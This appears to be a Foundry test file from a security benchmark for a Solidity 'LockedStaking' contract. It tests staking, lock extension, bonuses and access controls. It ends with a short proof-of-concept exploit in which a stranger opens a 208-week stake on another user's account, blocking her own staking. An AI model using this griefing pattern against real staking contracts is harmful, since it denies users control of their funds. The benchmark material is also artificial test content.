// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

// assay-canary-bb1e1689-bf05-4daf-affa-c3c94e54a849

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./LockedStaking.sol";

interface Vm {
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function warp(uint256 timestamp) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    address private _deployer = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == _deployer, "Token: deployer only");
        _mint(to, amount);
    }
}

/// Has one token.
contract Attacker {
    function run(LockedStaking staking, address account) external {
        staking.token().approve(address(staking), 1e18);
        staking.stakeFor(account, 1e18, 208, 0);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1760800000;
    address private constant ANA = address(0xA11A);
    address private constant BEN = address(0xBE11);
    address private constant EMPLOYER = address(0xE3B);
    address private constant DELEGATE = address(0xDE1);

    Token public token;
    LockedStaking public staking;
    Attacker public stranger;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        staking = new LockedStaking(token, 10, 20, 50000e18);
        token.mint(address(this), 10000e18);
        token.approve(address(staking), uint256(-1));
        staking.fund(10000e18);
        stranger = new Attacker();
        token.mint(address(stranger), 1e18);
        open(ANA, 5000e18);
        open(BEN, 8000e18);
        open(EMPLOYER, 5000e18);
        vm.prank(BEN);
        staking.stake(2000e18, 100, 240e18);
    }

    function open(address who, uint256 amount) private {
        token.mint(who, amount);
        vm.prank(who);
        token.approve(address(staking), uint256(-1));
    }

    /// Ana locks her savings for twenty weeks.
    function lockSavings() external {
        vm.prank(ANA);
        staking.stake(5000e18, 20, 100e18);
    }

    function test_Regular() public {
        require(staking.totalStaked() == 2000e18 && staking.promised() == 240e18, "a long lock");
        require(staking.quote(ANA, 1000e18, 20) == 20e18, "quote");
        vm.startPrank(ANA);
        staking.setManager(EMPLOYER);
        staking.stake(1000e18, 20, 20e18);
        vm.stopPrank();
        (uint256 amount, uint256 bonus, uint64 lockWeeks, uint64 unlockAt) = staking.positions(ANA);
        require(amount == 1000e18 && bonus == 20e18, "bonus of twenty weeks");
        require(lockWeeks == 20 && unlockAt == START + 20 weeks && staking.weeksLeft(ANA) == 20, "lock");

        // Half-way a part of the salary is added, and the lock becomes longer.
        vm.warp(START + 10 weeks);
        require(staking.quote(ANA, 1000e18, 0) == 10e18, "quote for ten weeks");
        vm.startPrank(EMPLOYER);
        staking.stakeFor(ANA, 1000e18, 20, 10e18);
        (amount, bonus, , ) = staking.positions(ANA);
        require(amount == 2000e18 && bonus == 30e18 && staking.promised() == 270e18, "ten weeks more");
        staking.extendFor(ANA, 60, 80e18);
        staking.resign(ANA);
        vm.stopPrank();
        (, bonus, lockWeeks, unlockAt) = staking.positions(ANA);
        require(bonus == 110e18 && lockWeeks == 60 && unlockAt == START + 60 weeks, "extended");
        require(staking.managerOf(ANA) == address(0) && !staking.isMature(ANA), "resigned");

        // The position matures and is locked anew, and a year later it is paid.
        vm.warp(START + 60 weeks);
        require(staking.isMature(ANA) && staking.payout(ANA) == 2110e18, "matured");
        vm.startPrank(ANA);
        staking.restake(52, 131664e15);
        require(staking.totalStaked() == 4110e18 && staking.reserve() == 9890e18, "the bonus is stake now");
        staking.extend(53, 211e16);
        vm.stopPrank();
        (amount, bonus, , ) = staking.positions(ANA);
        require(amount == 2110e18 && bonus == 133774e15, "a fifth more");
        vm.warp(START + 113 weeks);
        uint256 had = token.balanceOf(ANA);
        vm.prank(ANA);
        require(staking.withdraw() == 2243774e15 && token.balanceOf(ANA) == had + 2243774e15, "paid");
        vm.prank(BEN);
        staking.withdraw();
        require(staking.totalStaked() == 0 && staking.promised() == 0, "empty");
        require(token.balanceOf(address(staking)) == staking.reserve(), "what is left is reserve");

        // When the reserve is empty there is no bonus.
        uint256 rest = staking.available();
        staking.release(EMPLOYER, rest);
        require(staking.reserve() == 0 && rest == 9516226e15, "released");
        vm.prank(BEN);
        staking.stake(100e18, 50, 0);
        require(staking.payout(BEN) == 100e18, "no bonus");
        settings();
    }

    function settings() private {
        staking.setSchedule(20, 50);
        require(staking.fullBonus(1000e18, 100) == 300e18 && staking.fullBonus(1000e18, 51) == 102e18, "schedule");
        staking.setLimits(60000e18, 5e18);
        Token other = new Token();
        other.mint(address(staking), 7e18);
        staking.recover(other, BEN, 7e18);
        require(other.balanceOf(BEN) == 7e18, "recovered");
        staking.pause();
        staking.unpause();
        staking.addPauser(DELEGATE);
        staking.renouncePauser();
        staking.addTreasurer(DELEGATE);
        staking.renounceTreasurer();
        require(staking.isTreasurer(DELEGATE) && !staking.isTreasurer(address(this)), "treasurers");
        staking.transferOwnership(DELEGATE);
        vm.prank(DELEGATE);
        staking.renounceOwnership();
        require(staking.owner() == address(0), "no owner");
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        refuses(ANA, "Ownable: caller is not the owner");
        staking.setSchedule(1, 1);
        refuses(ANA, "Ownable: caller is not the owner");
        staking.setLimits(1, 1e18);
        refuses(ANA, "Ownable: caller is not the owner");
        staking.recover(IERC20(address(0)), ANA, 1);
        refuses(ANA, "TreasurerRole: not a treasurer");
        staking.fund(1);
        refuses(ANA, "TreasurerRole: not a treasurer");
        staking.release(ANA, 1);
        refuses(ANA, "TreasurerRole: not a treasurer");
        staking.addTreasurer(ANA);
        refuses(ANA, "PauserRole: caller does not have the Pauser role");
        staking.pause();
        refuses(EMPLOYER, "LockedStaking: account");
        staking.stakeFor(address(0), 1e18, 20, 0);
        refuses(EMPLOYER, "LockedStaking: manager");
        staking.extendFor(BEN, 120, 0);
        refuses(EMPLOYER, "LockedStaking: manager");
        staking.resign(BEN);
    }

    function test_RefusesStakes() public {
        refuses(ANA, "LockedStaking: amount");
        staking.stake(1e18 - 1, 20, 0);
        refuses(ANA, "LockedStaking: lock");
        staking.stake(1e18, 3, 0);
        refuses(ANA, "LockedStaking: lock");
        staking.stake(1e18, 209, 0);
        refuses(BEN, "LockedStaking: other lock");
        staking.stake(1e18, 101, 0);
        staking.setLimits(2010e18, 1e18);
        refuses(ANA, "LockedStaking: cap");
        staking.stake(10e18 + 1, 20, 0);
        vm.warp(START + 100 weeks);
        refuses(BEN, "LockedStaking: matured");
        staking.stake(1e18, 100, 0);
    }

    function test_RefusesLocks() public {
        refuses(ANA, "LockedStaking: no position");
        staking.withdraw();
        refuses(ANA, "LockedStaking: no position");
        staking.restake(20, 0);
        refuses(ANA, "LockedStaking: not running");
        staking.extend(20, 0);
        refuses(BEN, "LockedStaking: not longer");
        staking.extend(100, 0);
        refuses(BEN, "LockedStaking: lock");
        staking.extend(209, 0);
        vm.warp(START + 100 weeks - 1);
        refuses(BEN, "LockedStaking: locked");
        staking.withdraw();
        refuses(BEN, "LockedStaking: locked");
        staking.restake(20, 0);
        vm.warp(START + 100 weeks);
        refuses(BEN, "LockedStaking: not running");
        staking.extend(120, 0);
        refuses(BEN, "LockedStaking: lock");
        staking.restake(3, 0);
    }

    /// With less of a bonus than they ask for they keep their tokens.
    function test_RefusesSmallBonuses() public {
        vm.prank(BEN);
        staking.setManager(EMPLOYER);
        refuses(ANA, "RewardReserve: bonus");
        staking.stake(1000e18, 20, 20e18 + 1);
        refuses(EMPLOYER, "RewardReserve: bonus");
        staking.stakeFor(BEN, 1000e18, 100, 120e18 + 1);
        refuses(BEN, "RewardReserve: bonus");
        staking.extend(110, 20e18 + 1);
        refuses(EMPLOYER, "RewardReserve: bonus");
        staking.extendFor(BEN, 110, 20e18 + 1);
        staking.release(EMPLOYER, 9755e18);
        refuses(ANA, "RewardReserve: bonus");
        staking.stake(1000e18, 20, 20e18);
        vm.warp(START + 100 weeks);
        refuses(BEN, "RewardReserve: bonus");
        staking.restake(20, 5e18 + 1);
    }

    function test_RefusesWhenPaused() public {
        vm.prank(BEN);
        staking.setManager(EMPLOYER);
        vm.warp(START + 100 weeks);
        staking.pause();
        refuses(ANA, "Pausable: paused");
        staking.stake(1e18, 20, 0);
        refuses(EMPLOYER, "Pausable: paused");
        staking.stakeFor(BEN, 1e18, 100, 0);
        refuses(ANA, "Pausable: paused");
        staking.extend(20, 0);
        refuses(EMPLOYER, "Pausable: paused");
        staking.extendFor(BEN, 120, 0);
        refuses(BEN, "Pausable: paused");
        staking.restake(20, 0);
        vm.prank(BEN);
        staking.withdraw();
    }

    function test_RefusesSettings() public {
        vm.expectRevert("RewardReserve: no token");
        new LockedStaking(IERC20(address(0)), 10, 20, 1);
        vm.expectRevert("RewardReserve: promised");
        staking.release(ANA, 9760e18 + 1);
        vm.expectRevert("BonusSchedule: out of bounds");
        staking.setSchedule(21, 20);
        vm.expectRevert("BonusSchedule: out of bounds");
        staking.setSchedule(10, 51);
        vm.expectRevert("LockedStaking: minimum");
        staking.setLimits(1, 1e18 - 1);
        vm.expectRevert("LockedStaking: minimum");
        staking.setLimits(1, 100e18 + 1);
        vm.expectRevert("LockedStaking: token");
        staking.recover(token, ANA, 1);
    }

    function exploit() public {
        stranger.run(staking, ANA);
    }

    function test_Exploit() public {
        exploit();
        (bool done, ) = address(this).call(abi.encodeWithSelector(this.lockSavings.selector));
        require(!done, "locked her savings");
    }

    function target() public view returns (address) {
        return address(staking);
    }

    function attacker() public view returns (address) {
        return address(stranger);
    }
}
